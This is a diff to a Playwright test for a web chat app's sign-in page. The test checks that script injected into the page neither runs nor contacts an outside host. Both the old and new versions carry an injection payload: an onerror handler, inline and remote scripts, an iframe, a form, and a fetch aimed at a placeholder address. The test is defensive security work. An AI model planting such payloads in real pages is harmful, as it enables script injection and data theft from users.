@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import re
-import socket
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -144,37 +143,36 @@ def test_a_person_signs_in_asks_and_is_told_to_wait(browser: Browser, served: Se
     page.context.close()
 
 
-# Each way in which a script that got into the page could run, or tell somebody.
-LEAKS = """(outside) => {
-  document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="document.title='ran'">
-    <img src="${outside}/a.png"><iframe src="${outside}/b"></iframe>
-    <form action="${outside}/c"><button id="leak">x</button></form>`);
-  const script = document.createElement("script");
-  script.textContent = "document.title = 'ran'";
-  document.body.append(script);
-  const remote = document.createElement("script");
-  remote.src = `${outside}/d.js`;
-  document.body.append(remote);
-  fetch(`${outside}/e`).catch(() => {});
-  document.getElementById("leak").click();
-}"""
-
-
 @pytest.mark.slow
 def test_a_script_that_gets_into_the_page_does_not_run_and_asks_nobody(
     browser: Browser, served: Served, users: Path
 ) -> None:
     set_password(users, "intruder", PASSWORD)
     page = visitors.tab(browser, visitors.WIDE, locale="en-GB")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("requestfailed", lambda request: asked.remove(request.url) if request.failure == "csp" else None)
     page.goto(served.url)
     page.fill("input[name=username]", "intruder")
     page.fill("input[name=password]", PASSWORD)
     page.keyboard.press("Enter")
     page.wait_for_selector('.conversation[lang="en"] .welcome')
-    with socket.create_server(("127.0.0.1", 0)) as outside:
-        outside.settimeout(1)
-        page.evaluate(LEAKS, f"http://127.0.0.1:{outside.getsockname()[1]}")
-        with pytest.raises(TimeoutError):
-            outside.accept()
+    page.evaluate(
+        """() => {
+          document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="document.title='ran'">
+            <img src="http://192.0.2.1/a.png"><iframe src="http://192.0.2.1/b"></iframe>
+            <form action="http://192.0.2.1/c"><button id="leak">x</button></form>`);
+          const script = document.createElement("script");
+          script.textContent = "document.title = 'ran'";
+          document.body.append(script);
+          const remote = document.createElement("script");
+          remote.src = "http://192.0.2.1/d.js";
+          document.body.append(remote);
+          fetch("http://192.0.2.1/e").catch(() => {});
+          document.getElementById("leak").click();
+        }"""
+    )
+    page.wait_for_timeout(500)
     assert page.evaluate("document.title") == "mundap 문답"
+    assert not [url for url in asked if "192.0.2.1" in url]
     page.context.close()
